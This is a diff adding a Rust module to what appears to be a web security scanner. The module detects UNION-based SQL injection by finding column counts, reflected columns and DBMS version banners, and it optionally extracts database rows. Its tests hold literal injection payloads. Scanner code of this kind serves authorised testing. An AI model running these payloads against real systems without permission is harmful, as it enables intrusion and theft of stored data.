@@ -0,0 +1,345 @@
+use rand::Rng;
+use regex::Regex;
+use tokio_rustls::TlsConnector;
+
+use crate::report::report::{Finding, SEVERITY, CONFIDENCE};
+use crate::sqli::error::DBMS;
+use crate::sqli::extract::{self, CHANNEL};
+use crate::sqli::sqli::{same_page, send, sql_scanner, InjectionPoint, SqlResponse};
+
+// Ways to close the original value before our clause, and ways to cut off the rest of the query
+const PREFIXES: &[&str] = &["'", "", "\"", ")", "')", "\")"];
+const COMMENTS: &[&str] = &["-- -", "#"];
+
+// DBMS name, expression wrapping its version between two markers, and the FROM it needs
+const VERSION_PROBES: &[(&str, &str, &str)] = &[
+    ("MySQL", "CONCAT('{s}',@@version,'{e}')", ""),
+    ("PostgreSQL", "'{s}'||version()||'{e}'", ""),
+    ("Microsoft SQL Server", "'{s}'+@@version+'{e}'", ""),
+    ("SQLite", "'{s}'||sqlite_version()||'{e}'", ""),
+    ("Oracle", "'{s}'||(SELECT banner FROM v$version WHERE ROWNUM=1)||'{e}'", " FROM dual"),
+];
+
+pub struct UnionContext {
+    pub prefix: &'static str,
+    pub comment: &'static str,
+    pub columns: usize,
+    pub reflected: Vec<usize>,
+}
+
+impl UnionContext {
+    // Full payload selecting values (one per column) with the original row suppressed
+    pub fn payload(&self, values: &[String], from: &str) -> String {
+        format!(
+            "{} AND 1=2 UNION ALL SELECT {}{}{}",
+            self.prefix,
+            values.join(","),
+            from,
+            self.comment
+        )
+    }
+
+    // NULL everywhere except expression in column
+    pub fn select(&self, column: usize, expression: &str, from: &str) -> String {
+        let values: Vec<String> = (0..self.columns)
+            .map(|i| if i == column { expression.to_string() } else { "NULL".to_string() })
+            .collect();
+        self.payload(&values, from)
+    }
+}
+
+pub fn marker() -> String {
+    format!("krk{}", rand::thread_rng().gen_range(100000..999999))
+}
+
+// Guess the product from the version banner, falling back to the probe that produced it
+pub fn dbms_from_banner(banner: &str, probe: &str) -> String {
+    let lower = banner.to_lowercase();
+    if lower.contains("mariadb") {
+        "MariaDB".to_string()
+    } else if lower.contains("microsoft") {
+        "Microsoft SQL Server".to_string()
+    } else if lower.contains("postgresql") {
+        "PostgreSQL".to_string()
+    } else if lower.contains("oracle") {
+        "Oracle".to_string()
+    } else {
+        probe.to_string()
+    }
+}
+
+async fn order_by(
+    scanner: &sql_scanner<'_>,
+    point: &InjectionPoint,
+    tls: &TlsConnector,
+    prefix: &str,
+    comment: &str,
+    n: usize,
+) -> Option<SqlResponse> {
+    send(point, &format!("{} ORDER BY {}{}", prefix, n, comment), &scanner.headers, tls).await
+}
+
+// ORDER BY 1 behaves like the original request and ORDER BY <too many> breaks it, bisect in between
+async fn columns_by_order(
+    scanner: &sql_scanner<'_>,
+    point: &InjectionPoint,
+    tls: &TlsConnector,
+    baseline: &SqlResponse,
+    prefix: &str,
+    comment: &str,
+) -> Option<usize> {
+    let max = scanner.max_columns();
+    let first = order_by(scanner, point, tls, prefix, comment, 1).await?;
+    if !same_page(baseline, &first) {
+        return None;
+    }
+    let over = order_by(scanner, point, tls, prefix, comment, max + 1).await?;
+    if same_page(baseline, &over) {
+        return None;
+    }
+
+    let (mut low, mut high) = (1, max + 1);
+    while high - low > 1 {
+        let middle = (low + high) / 2;
+        let response = order_by(scanner, point, tls, prefix, comment, middle).await?;
+        if same_page(baseline, &response) {
+            low = middle;
+        } else {
+            high = middle;
+        }
+    }
+    Some(low)
+}
+
+// Wrong column counts all fail the same way, the right one is the odd response out
+async fn columns_by_nulls(
+    scanner: &sql_scanner<'_>,
+    point: &InjectionPoint,
+    tls: &TlsConnector,
+    prefix: &str,
+    comment: &str,
+) -> Option<usize> {
+    let mut responses = vec![];
+    for n in 1..=scanner.max_columns() {
+        let nulls = vec!["NULL"; n].join(",");
+        let payload = format!("{} UNION ALL SELECT {}{}", prefix, nulls, comment);
+        responses.push(send(point, &payload, &scanner.headers, tls).await?);
+    }
+
+    let odd: Vec<usize> = (0..responses.len())
+        .filter(|&i| {
+            responses
+                .iter()
+                .enumerate()
+                .filter(|(j, other)| *j != i && !same_page(&responses[i], other))
+                .count()
+                == responses.len() - 1
+        })
+        .collect();
+
+    match odd.as_slice() {
+        [i] => Some(i + 1),
+        _ => None,
+    }
+}
+
+// NULL padding costs a request per column count, only try it when prefix + comment leave the page intact
+// while prefix alone breaks it
+async fn closes_query(
+    scanner: &sql_scanner<'_>,
+    point: &InjectionPoint,
+    tls: &TlsConnector,
+    baseline: &SqlResponse,
+    prefix: &str,
+    comment: &str,
+) -> bool {
+    let closed = match send(point, &format!("{}{}", prefix, comment), &scanner.headers, tls).await {
+        Some(response) => response,
+        None => return false,
+    };
+    if !same_page(baseline, &closed) {
+        return false;
+    }
+    if prefix.is_empty() {
+        return true;
+    }
+    match send(point, prefix, &scanner.headers, tls).await {
+        Some(broken) => !same_page(baseline, &broken),
+        None => false,
+    }
+}
+
+async fn reflected_columns(
+    scanner: &sql_scanner<'_>,
+    point: &InjectionPoint,
+    tls: &TlsConnector,
+    context: &UnionContext,
+) -> Vec<(usize, String, SqlResponse)> {
+    let mut reflected = vec![];
+    for column in 0..context.columns {
+        let mark = marker();
+        let payload = context.select(column, &format!("'{}'", mark), "");
+        if let Some(response) = send(point, &payload, &scanner.headers, tls).await {
+            if response.body.contains(&mark) {
+                reflected.push((column, payload, response));
+            }
+        }
+    }
+    reflected
+}
+
+// Pull the version banner through a reflected column, returns (dbms, banner, payload, response)
+pub async fn fingerprint(
+    scanner: &sql_scanner<'_>,
+    point: &InjectionPoint,
+    tls: &TlsConnector,
+    context: &UnionContext,
+    column: usize,
+    known: Option<DBMS>,
+) -> Option<(String, String, String, SqlResponse)> {
+    for (dbms, expression, from) in VERSION_PROBES {
+        if known.is_some() && DBMS::from_name(dbms) != known {
+            continue;
+        }
+        let (start, end) = (marker(), marker());
+        let expression = expression.replace("{s}", &start).replace("{e}", &end);
+        let payload = context.select(column, &expression, from);
+        let response = match send(point, &payload, &scanner.headers, tls).await {
+            Some(response) => response,
+            None => continue,
+        };
+        let extract = Regex::new(&format!("(?s){}(.*?){}", start, end)).unwrap();
+        if let Some(banner) = extract.captures(&response.body).and_then(|c| c.get(1)) {
+            let banner = banner.as_str().trim().to_string();
+            return Some((dbms_from_banner(&banner, dbms), banner, payload, response));
+        }
+    }
+    None
+}
+
+// Column count and reflected columns for point, None when no prefix gets a UNION through
+pub async fn find_context(
+    scanner: &sql_scanner<'_>,
+    point: &InjectionPoint,
+    tls: &TlsConnector,
+    baseline: &SqlResponse,
+) -> Option<(UnionContext, Option<(String, SqlResponse)>)> {
+    for &prefix in PREFIXES {
+        for &comment in COMMENTS {
+            let columns = match columns_by_order(scanner, point, tls, baseline, prefix, comment).await {
+                Some(columns) => Some(columns),
+                None if closes_query(scanner, point, tls, baseline, prefix, comment).await => {
+                    columns_by_nulls(scanner, point, tls, prefix, comment).await
+                }
+                None => None,
+            };
+            let columns = match columns {
+                Some(columns) => columns,
+                None => continue,
+            };
+
+            let mut context = UnionContext {
+                prefix,
+                comment,
+                columns,
+                reflected: vec![],
+            };
+            let reflected = reflected_columns(scanner, point, tls, &context).await;
+            context.reflected = reflected.iter().map(|(column, _, _)| *column).collect();
+            let evidence = reflected
+                .into_iter()
+                .next()
+                .map(|(_, payload, response)| (payload, response));
+            return Some((context, evidence));
+        }
+    }
+    None
+}
+
+pub async fn scan_point(
+    scanner: &sql_scanner<'_>,
+    point: &InjectionPoint,
+    tls: &TlsConnector,
+    known: Option<DBMS>,
+) -> Option<Finding> {
+    let baseline = send(point, "", &scanner.headers, tls).await?;
+    let (context, evidence) = find_context(scanner, point, tls, &baseline).await?;
+
+    let mut finding = Finding {
+        url: point.url.clone(),
+        method: point.method.clone(),
+        parameter: point.name.clone(),
+        dbms: known.map(|dbms| dbms.name().to_string()),
+        cwe: Some(89),
+        ..Finding::new("sqli", "UNION-based SQL injection", SEVERITY::HIGH, CONFIDENCE::FIRM)
+    };
+
+    let (payload, response) = match evidence {
+        Some(evidence) => evidence,
+        None => {
+            // Column count differs between ORDER BY values but nothing is echoed back
+            finding.payload = format!("{} ORDER BY {}{}", context.prefix, context.columns, context.comment);
+            finding.detail = format!("{} columns, no reflected column", context.columns);
+            return Some(finding);
+        }
+    };
+
+    finding.confidence = CONFIDENCE::CONFIRMED;
+    finding.payload = payload;
+    finding.request = response.request;
+    finding.response = response.response;
+    finding.detail = format!(
+        "{} columns, reflected columns {:?}",
+        context.columns,
+        context.reflected.iter().map(|c| c + 1).collect::<Vec<_>>()
+    );
+
+    let mut dbms = known;
+    if let Some((name, banner, payload, response)) =
+        fingerprint(scanner, point, tls, &context, context.reflected[0], known).await
+    {
+        dbms = DBMS::from_name(&name).or(dbms);
+        finding.dbms = Some(name.clone());
+        finding.payload = payload;
+        finding.request = response.request;
+        finding.response = response.response;
+        finding.detail = format!("{}, DBMS: {} ({})", finding.detail, name, banner);
+    }
+
+    if let (Some(max_rows), Some(dbms)) = (scanner.extract, dbms) {
+        let channel = CHANNEL::UNION(&context, context.reflected[0]);
+        finding.extracted = extract::extract(scanner, point, tls, dbms, channel, max_rows).await;
+    }
+
+    Some(finding)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn context() -> UnionContext {
+        UnionContext { prefix: "'", comment: "-- -", columns: 3, reflected: vec![1] }
+    }
+
+    #[test]
+    fn payload_suppresses_the_original_row() {
+        let values = vec!["1".to_string(), "'a'".to_string(), "NULL".to_string()];
+        assert_eq!(context().payload(&values, " FROM dual"), "' AND 1=2 UNION ALL SELECT 1,'a',NULL FROM dual-- -");
+    }
+
+    #[test]
+    fn select_fills_the_other_columns_with_null() {
+        assert_eq!(context().select(1, "@@version", ""), "' AND 1=2 UNION ALL SELECT NULL,@@version,NULL-- -");
+        assert_eq!(context().select(0, "1", "").matches("NULL").count(), 2);
+    }
+
+    #[test]
+    fn banner_names_the_product() {
+        assert_eq!(dbms_from_banner("10.6.12-MariaDB-0ubuntu0.22.04.1", "MySQL"), "MariaDB");
+        assert_eq!(dbms_from_banner("PostgreSQL 15.2 on x86_64-pc-linux-gnu", "MySQL"), "PostgreSQL");
+        assert_eq!(dbms_from_banner("Microsoft SQL Server 2019 (RTM) - 15.0.2000.5", "MySQL"), "Microsoft SQL Server");
+        assert_eq!(dbms_from_banner("Oracle Database 19c Enterprise Edition", "MySQL"), "Oracle");
+        assert_eq!(dbms_from_banner("8.0.33", "MySQL"), "MySQL");
+    }
+}